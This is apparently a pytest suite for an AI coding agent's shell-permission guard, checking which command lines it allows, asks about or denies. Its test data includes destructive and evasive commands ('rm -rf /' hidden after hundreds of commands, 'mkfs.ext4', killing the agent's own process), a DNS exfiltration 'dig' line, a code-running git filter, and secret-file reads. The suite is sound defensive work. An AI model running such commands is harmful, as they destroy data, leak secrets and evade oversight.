"""Each module earns its row: a line that is decided otherwise when that module is taken out of the table."""

from __future__ import annotations

import subprocess
import time
from pathlib import Path

import pytest

from tests.permissions.support import judge
from tui_agent.permissions.guard import MODULES

ANY = ("Bash(*)",)

# module, line, rules, the verdict with it
CASES: tuple[tuple[str, str, tuple[str, ...], str], ...] = (
    ("input_bounds", "; ".join(["ls"] * 41), (), "ask"),
    ("control_chars", "echo '\x1b[2K'", (), "ask"),
    ("unicode_confusables", "echo '\u202e'", (), "ask"),
    ("visual_padding", "echo a" + " " * 60 + "b", (), "ask"),
    ("parse", "case x in x) ls;; esac", ANY, "ask"),
    ("parser_differential", "cat <<E\n\\`x\\`\nE", (), "ask"),
    ("literal_argv", "make $TARGET", ANY, "ask"),
    ("substitution", "make X$((1+1))", ANY, "ask"),
    ("heredoc", "python3 script.py <<'E'\nx\nE", ANY, "ask"),
    ("redirection", "ls > out.txt", (), "ask"),
    ("env_prefix", "PAGER=./x git log", (), "ask"),
    ("shadowing", "alias ls=x", ANY, "ask"),
    ("eval_builtins", "mapfile x", ANY, "ask"),
    ("catastrophe", "mkfs.ext4 disk.img", ANY, "deny"),
    ("self_protection", "pkill tui-agent", ANY, "deny"),
    ("secret_paths", "cat .env", (), "ask"),
    ("path_scope", "cat /etc/hosts", (), "ask"),
    ("user_rules", "rm x", ANY, "allow"),
    ("read_only", "ls", (), "allow"),
    ("wrapper_unwrap", "timeout 5 ls", (), "allow"),
    ("exfiltration", "dig aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQx.example.org", ANY, "deny"),
)


@pytest.mark.parametrize(("module", "line", "allow", "wanted"), CASES, ids=[case[0] for case in CASES])
def test_the_verdict_needs_the_module(module: str, line: str, allow: tuple[str, ...], wanted: str) -> None:
    assert judge(line, allow=allow).verdict == wanted
    without = {judge(line, allow=allow, without=module).verdict}
    if module in (
        "parser_differential",
        "literal_argv",
        "substitution",
        "parse",
        "heredoc",
        "shadowing",
        "eval_builtins",
    ):
        # two readings guard the same line: the module itself must say it
        said = {m.name: m.verdict for m in judge(line, allow=allow).modules}
        assert said[module] == wanted
    else:
        assert wanted not in without


def test_repo_config_is_needed(tmp_path: Path) -> None:
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    assert judge("git status", cwd=str(tmp_path)).verdict == "allow"
    with (tmp_path / ".git" / "config").open("a") as file:
        file.write('[filter "x"]\n\tclean = touch owned\n')
    assert judge("git status", cwd=str(tmp_path)).verdict == "ask"
    assert judge("git status", cwd=str(tmp_path), without="repo_config").verdict == "allow"


def test_repo_config_sees_where_git_would_look(tmp_path: Path) -> None:
    bare = tmp_path / "bare"
    subprocess.run(["git", "init", "-q", "--bare", str(bare)], check=True)
    workspace = tmp_path / "w"
    workspace.mkdir()
    bare.rename(workspace / "sub")
    for line in ("cd sub && git status", "git -C sub log"):
        assert judge(line, cwd=str(workspace)).verdict == "ask", line
    (workspace / "other").mkdir()
    (workspace / "other" / ".git").write_text(f"gitdir: {tmp_path}/elsewhere\n")
    assert judge("cd other && git diff", cwd=str(workspace)).verdict == "ask"


@pytest.mark.parametrize(
    ("name", "text", "line"),
    [
        (".yarnrc.yml", "yarnPath: ./x.cjs", "yarn --version"),
        (".cargo/config.toml", '[build]\nrustc-wrapper = "./x"', "cargo tree"),
        (".pnpmfile.cjs", "", "pnpm list"),
        ("json.py", "", "python -m json.tool a.json"),
        ("Cargo.toml", "", "cargo metadata"),
    ],
)
def test_files_of_a_toolchain_that_run_code_ask(tmp_path: Path, name: str, text: str, line: str) -> None:
    assert judge(line, cwd=str(tmp_path)).verdict == "allow"
    (tmp_path / name).parent.mkdir(exist_ok=True)
    (tmp_path / name).write_text(text)
    assert judge(line, cwd=str(tmp_path)).verdict == "ask"


def test_links_out_of_the_workspace_ask(tmp_path: Path) -> None:
    workspace = tmp_path / "w"
    workspace.mkdir()
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "x").touch()
    (workspace / "link").symlink_to(tmp_path / "outside")
    for line in (
        "cat link/x",
        "ls link",
        "cd link && ls",
        "cat l*/x",
        "cat lin?/x",
        "wc -l < link/x",
        "cd link/.. && cat x",
    ):
        assert judge(line, cwd=str(workspace)).verdict == "ask", line


def test_a_file_named_like_a_flag_makes_a_glob_ask(tmp_path: Path) -> None:
    assert judge("sort *", cwd=str(tmp_path)).verdict == "allow"
    (tmp_path / "--output=x").touch()
    assert judge("sort *", cwd=str(tmp_path)).verdict == "ask"


def test_there_are_22_modules_each_with_a_docstring() -> None:
    assert len(MODULES) == 23
    assert len({name for name, _ in MODULES}) == 23
    for name, check in MODULES:
        module = __import__(check.__module__, fromlist=["check"])
        assert check.__module__.endswith(f".{name}")
        assert "Class of attack" in (module.__doc__ or ""), name


def test_a_check_that_fails_asks() -> None:
    from tui_agent.permissions import guard
    from tui_agent.permissions.guard.model import Finding, Line, Places, Surroundings
    from tui_agent.permissions.rules import RuleSet

    def broken(line: Line, surroundings: Surroundings) -> Finding:
        raise ZeroDivisionError

    surroundings = Surroundings("/w", Places("/h", "/w"), RuleSet())
    assert guard.judge_line("ls", surroundings, modules=(*MODULES, ("broken", broken))).verdict == "ask"


def test_a_line_that_takes_too_long_asks() -> None:
    from tui_agent.permissions.guard import judging
    from tui_agent.permissions.guard.model import Places, Surroundings
    from tui_agent.permissions.rules import RuleSet

    ticks = iter([0.0, judging.PATIENCE + 1])
    surroundings = Surroundings("/w", Places("/h", "/w"), RuleSet())
    assert judging.judge_line("ls", surroundings, monotonic=lambda: next(ticks)).verdict == "ask"


def test_deny_checks_hold_behind_any_number_of_commands() -> None:
    assert judge("ls; " * 300 + "rm -rf /", allow=["Bash(*)"]).verdict == "deny"
    assert judge("make; " * 300 + "git push", allow=["Bash(*)"], deny=["Bash(git push *)"]).verdict == "deny"


def _nasty(size: int) -> dict[str, str]:
    """Return lines of about `size` bytes, each made to cost as much as can be to look at."""
    return {
        "commands": "ls;" * (size // 3),
        "pipes": "gpg|sh|" * (size // 7) + "ls",
        "wrappers": "sudo " * (size // 5) + "ls",
        "scripts": "sh -c 'sh -c " * (size // 13),
        "folders": "cd a || cd b && " * (size // 16) + "ls",
        "globs": " ".join(["ls", *(f"*{number}*" for number in range(size // 8))]),
        "one glob": "ls " + "[a" * (size // 2),
        "extended globs": "ls " + "@(a" * (size // 3),
        "braces": "echo " + "{a," * (size // 3),
        "words": " ".join(["cat", *(f"f{number}" for number in range(size // 7))]),
        "redirections": "ls " + "<a " * (size // 3),
        "options": "git " + "-C a " * (size // 5) + "log",
        "functions": "f(){ " * (size // 5),
        "substitutions": "cat $(x)|" * (size // 9) + "(",
        "program": "python -c '" + "socket " * (size // 7) + "'",
        "heredoc": "bash <<E\n" + "( ls\n" * (size // 5) + "E",
    }


@pytest.mark.parametrize("name", _nasty(0))
def test_a_line_made_to_cost_much_costs_little(name: str, tmp_path: Path) -> None:
    def cost(line: str) -> float:
        began = time.process_time()
        assert judge(line, allow=ANY, deny=("Bash(git push *)", "Read(./private/**)"), cwd=str(tmp_path)).verdict
        return time.process_time() - began

    plain = min(cost("ls a b; " * 300) for _ in range(3))
    # without bounds each of them costs a hundred to ten thousand times as much as this plain line of 2,400 bytes
    assert any(cost(_nasty(50_000)[name]) < 50 * plain for _ in range(3))


@pytest.mark.parametrize("name", _nasty(0))
def test_nothing_that_is_denied_hides_in_such_a_line(name: str, tmp_path: Path) -> None:
    for size in (1000, 5000, 20_000):
        line = _nasty(size)[name]
        for hidden in (f"rm -rf /; {line}", f"{line}\nrm -rf /", f"{line}; rm -rf /; {line}"):
            if name in ("scripts", "program") and hidden.endswith(line) is False and line in hidden[:-9]:
                continue  # an open quote makes it text
            assert judge(hidden, allow=ANY, cwd=str(tmp_path)).verdict == "deny", (size, hidden[:40], hidden[-40:])
